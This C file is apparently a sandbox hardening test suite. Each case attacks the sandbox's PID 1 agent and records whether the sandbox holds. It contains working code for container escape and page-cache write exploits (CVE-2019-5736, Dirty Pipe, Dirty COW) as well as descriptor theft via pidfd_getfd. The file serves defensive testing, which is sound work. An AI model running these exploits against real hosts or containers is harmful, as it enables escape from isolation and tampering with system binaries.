/* Attacks on the program that all sandboxes share, and on what PID 1 has open. */
#include "attack.h"

#include <pthread.h>
#include <sys/xattr.h>

static const char zeros[4096];

/* CVE-2019-5736: the program of a process of the host, opened again for writing by a magic link. */
ATTACK(agent, overwriting_it_by_its_own_link) {
    int path = open("/proc/1/exe", O_PATH);
    char again[64];
    snprintf(again, sizeof again, "/proc/self/fd/%d", path);
    int file = open(again, O_WRONLY);
    if (file < 0)
        held("%s", strerror(errno));
    must_fail(write(file, "#!/bin/sh\n", 10));
}

ATTACK(agent, truncating_it) { must_fail(truncate("/proc/1/exe", 0)); }

ATTACK(agent, unlinking_it) { must_fail(unlink("/run/sandcove/sandcove-agent")); }

ATTACK(agent, renaming_over_it) {
    close(open("/run/other", O_CREAT | O_WRONLY, 0755));
    must_fail(rename("/run/other", "/run/sandcove/sandcove-agent"));
}

ATTACK(agent, changing_its_mode) { must_fail(chmod("/run/sandcove/sandcove-agent", 04777)); }

ATTACK(agent, changing_its_times) { must_fail(utimensat(AT_FDCWD, "/run/sandcove/sandcove-agent", NULL, 0)); }

ATTACK(agent, an_attribute_on_it) { must_fail(setxattr("/run/sandcove/sandcove-agent", "user.x", "1", 1, 0)); }

ATTACK(agent, linking_to_it) { must_fail(link("/run/sandcove/sandcove-agent", "/run/sandcove/second")); }

/* CVE-2022-0847: a page of the cache in a pipe whose flags say that it may be merged with. The witness compares the file. */
ATTACK(agent, a_dirty_pipe) {
    int file = open("/run/sandcove/sandcove-agent", O_RDONLY), ends[2];
    if (file < 0 || pipe(ends))
        held("%s", strerror(errno));
    int size = fcntl(ends[1], F_GETPIPE_SZ);
    for (int done = 0; done < size; done += 4096)
        if (write(ends[1], zeros, 4096) < 0 || read(ends[0], (char[4096]){0}, 4096) < 0)
            held("%s", strerror(errno));
    loff_t from = 64;
    char before[8] = {0}, after[8] = {0};
    if (pread(file, before, 8, 65) < 0 || splice(file, &from, ends[1], NULL, 1, 0) < 0 || write(ends[1], "\xcc\xcc\xcc", 3) < 0)
        held("%s", strerror(errno));
    if (pread(file, after, 8, 65) < 0 || !memcmp(before, after, 8))
        held("the file is as it was");
    broke("the page cache was written");
}

static void *throw_away(void *map) {
    for (;;)
        madvise(map, 4096, MADV_DONTNEED);
    return NULL;
}

/* CVE-2016-5195: a private mapping whose pages are thrown away while they are written by another path. */
ATTACK(agent, a_dirty_cow) {
    int file = open("/run/sandcove/sandcove-agent", O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
    char *map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    if (map == MAP_FAILED || memory < 0)
        held("%s", strerror(errno));
    pthread_t thread;
    if (pthread_create(&thread, NULL, throw_away, map))
        held("no thread");
    for (int tries = 0; tries < 20000; tries++)
        if (pwrite(memory, "\xcc\xcc\xcc\xcc", 4, (off_t)(uintptr_t)map + 8) < 0)
            break;
    char now[4];
    if (pread(file, now, 4, 8) == 4 && memcmp(now, "\xcc\xcc\xcc\xcc", 4))
        held("the file is as it was");
    broke("the file was written");
}

ATTACK(agent, a_shared_writable_map) {
    int file = open("/run/sandcove/sandcove-agent", O_RDONLY);
    void *map = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    must_fail(map == MAP_FAILED ? -1 : 0);
}

ATTACK(agent, killing_it) {
    kill(1, SIGKILL);
    kill(1, SIGSTOP);
    kill(1, SIGSEGV);
    usleep(100000);
    char state[512] = {0};
    int file = open("/proc/1/stat", O_RDONLY);
    if (file < 0 || read(file, state, sizeof state - 1) < 0)
        broke("it is gone");
    char *after = strrchr(state, ')');
    if (after && after[2] == 'T')
        broke("it is stopped");
    held("it runs");
}

/* What a descriptor of PID 1 leads to: files and directories of the host, control groups, namespaces. */
ATTACK(agent, descriptors_of_init) {
    long init = syscall(CALL_PIDFD_OPEN, 1, 0);
    struct stat root, one, shm;
    stat("/", &root);
    stat("/dev/shm", &shm);
    int taken = 0;
    for (int number = 0; number < 256; number++) {
        long copy = syscall(CALL_PIDFD_GETFD, init, number, 0);
        if (copy < 0)
            continue;
        taken++;
        if (fstat((int)copy, &one))
            continue;
        if (S_ISDIR(one.st_mode) || openat((int)copy, "..", O_PATH) >= 0)
            broke("descriptor %d is a directory", number);
        if (S_ISREG(one.st_mode) && one.st_dev != root.st_dev && one.st_dev != shm.st_dev) {
            char link[64], target[256] = {0};
            snprintf(link, sizeof link, "/proc/1/fd/%d", number);
            if (readlink(link, target, sizeof target - 1) > 0 && strncmp(target, "/memfd:", 7) && strncmp(target, "/proc", 5))
                broke("descriptor %d is %s", number, target);
        }
    }
    if (taken == 0)
        held("no descriptor can be taken");
    held("%d descriptors lead nowhere", taken);
}
